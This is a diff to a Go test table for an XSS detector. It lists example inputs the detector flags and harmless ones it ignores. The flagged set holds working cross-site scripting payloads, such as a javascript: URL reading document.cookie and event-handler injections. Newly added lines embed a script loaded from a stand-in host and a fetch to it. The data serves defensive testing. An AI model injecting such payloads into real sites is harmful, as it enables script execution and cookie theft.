@@ -134,10 +134,12 @@ var injectionKinds = []Kind{
 			q("u=javascript:alert(document.cookie)"),
 			q("q=%22%20onmouseover=%22alert(1)"), j(`{"c":"<svg/onload=prompt(1)>"}`), q("q=%27-alert(1)-%27"),
 			q("q=%253Cscript%253E1"),
-			form("c=%26%23x3c%3Bscript%26%23x3e%3B"), q("q=x%22%3E%3Cb%3Eseen"), q("q=onerror=eval;throw+2"), j(`{"bio":"<a href=\"javascript:eval('x')\">a</a>"}`),
+			form("c=%26%23x3c%3Bscript%26%23x3e%3B"), q("q=x%22%3E%3Cb%3Eseen"), q("q=onerror=eval;throw+2"),
+			j("{\"t\":\"Please look at the `<script src=//x.example/a.js></script>` in my page, thanks\"}"), q("q=a+classic+example+of+a+payload:+<svg+onload=fetch('//x.example')>+and+some+more"), j(`{"bio":"<a href=\"javascript:eval('x')\">a</a>"}`),
 			p("/x/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
 		},
 		Ignores: []Example{
+			j("{\"t\":\"In a page you write `<img src=x onerror=alert(1)>` to test for XSS; our framework escapes it.\"}"),
 			j(`{"html":"<p>Hello <b>world</b>, 3 < 5</p>"}`), j(`{"html":"<a href='x'><b>5\" wide</b></a>"}`), j(`{"t":"5\" > 4 <- true"}`), j(`{"t":"JavaScript: the good parts (2008)"}`),
 			q("q=a%3Cb+and+c%3Ed"),
 			j(`{"code":"if (a < b) { return \"x\"; }"}`), j(`{"t":"He said \"confirm\"; alert everyone"}`),
